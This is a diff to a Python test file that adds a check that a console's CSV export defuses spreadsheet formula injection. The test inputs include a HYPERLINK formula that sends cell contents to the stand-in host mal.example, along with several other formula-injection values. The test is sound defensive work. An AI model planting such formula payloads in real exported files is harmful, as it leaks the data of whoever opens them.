@@ -1,5 +1,7 @@
 """The console as an analyst's browser meets it: `portique console` on a workspace that holds a hostile shop."""
 
+import csv
+import io
 import json
 import os
 import re
@@ -241,3 +243,17 @@ def test_console_changes_nothing(console: Console) -> None:
 
     assert status in {400, 403} or b"must be a SELECT" in body
     assert console.page("/site/shop.example").css_first("h1") is not None
+
+
+def test_a_table_in_a_file_holds_no_formula(console: Console) -> None:
+    """A name that begins like a formula would be run by the spreadsheet that opens the file; numbers stay numbers."""
+    cells = ['=HYPERLINK("http://mal.example/?x="&A1,"Mini")', "+1+1", "-2", "-1,5e3", "@SUM(A1)", " \n=1", "＝1", "\t=1", 'Mini "x",\n=y', "−4"]  # fmt: skip
+    asked = " union all ".join(f"select {n} as n, '{cell}' as cell" for n, cell in enumerate(cells))
+    status, headers, body = console.get("/findings.csv?" + urllib.parse.urlencode({"sql": asked}))
+    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
+
+    assert status == 200
+    assert headers["Content-Type"].startswith("text/plain")
+    assert [row["cell"] for row in rows] == [
+        f"'{cells[0]}", "'+1+1", "-2", "-1,5e3", "'@SUM(A1)", "' \n=1", "'＝1", "'\t=1", cells[8], "−4",
+    ]  # fmt: skip
